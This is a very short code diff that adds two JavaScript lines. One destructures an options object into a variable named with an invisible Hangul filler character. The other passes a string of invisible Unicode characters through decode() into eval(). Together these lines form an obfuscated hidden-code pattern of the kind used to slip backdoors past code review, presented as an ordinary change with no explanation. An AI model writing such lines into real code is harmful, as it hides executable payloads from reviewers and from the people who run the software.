@@ -1,0 +1,2 @@
+const { timeout, ㅤ } = options;
+eval(decode('󠅡󠅢󠅣'));
